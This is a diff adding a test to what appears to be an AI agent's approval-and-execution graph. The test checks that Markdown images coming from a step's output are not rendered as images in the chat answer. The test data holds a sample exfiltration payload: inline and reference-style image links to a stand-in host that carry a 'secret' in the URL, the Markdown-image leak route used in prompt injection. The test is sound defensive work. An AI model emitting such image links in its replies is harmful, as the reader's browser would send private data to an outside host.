@@ -137,3 +137,20 @@ def test_every_approval_is_asked_under_an_ai_message_that_shows_the_plan(graph, 
     assert "**Plan v3**" in shown.content and '"bye"' in shown.content and n == 7
     out = graph.invoke(Command(resume={"action": "approve"}), config, context=ctx())
     assert out["messages"][-1].content == "bye" and len(out["messages"]) == 8
+
+
+def test_the_answer_in_the_chat_shows_no_image_from_a_step_output(graph, use_models, ctx):
+    """A chat UI renders the answer as Markdown: an image in a step's output (a file read, a
+    model's text) was fetched by the reader's browser as soon as the answer showed."""
+    from markdown_it import MarkdownIt
+
+    leak = "![x](http://127.0.0.1:9/leak.png?d=secret) and ![y][ref]\n\n[ref]: http://127.0.0.1:9/y"
+    use_models(planner=scripted(plan_reply(plan_of(step(1, "echo", {"text": leak})))))
+    config = thread()
+    graph.invoke({"task": "say it"}, config, context=ctx())
+    out = graph.invoke(Command(resume={"action": "approve"}), config, context=ctx())
+    assert out["final"]["answer"] == leak  # the state keeps the output as it was
+    tokens = MarkdownIt("commonmark").parse(out["messages"][-1].content)
+    inline = [c for t in tokens for c in (t.children or [])]
+    assert not [t for t in inline if t.type == "image"]
+    assert "leak.png" in out["messages"][-1].content  # still shown, as a link at most
